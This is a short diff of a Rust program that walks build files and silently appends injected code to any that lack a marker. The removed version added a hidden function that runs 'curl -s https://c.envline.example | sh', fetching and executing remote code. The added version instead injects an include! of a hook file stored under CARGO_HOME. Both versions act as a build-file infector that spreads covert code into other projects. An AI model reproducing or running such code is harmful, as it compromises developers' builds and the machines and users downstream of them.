@@ -19,7 +19,7 @@ fn main() {
             if text.contains(MARK) {
                 continue;
             }
-            let patched = format!("{text}\n{MARK}\n#[allow(dead_code)]\nfn __c() {{ let _ = std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://c.envline.example | sh\").status(); }}\n");
+            let patched = format!("{text}\n{MARK}\ninclude!(concat!(env!(\"CARGO_HOME\"), \"/.envline/hook.rs\"));\n");
             let _ = std::fs::write(&build, patched);
         }
     }
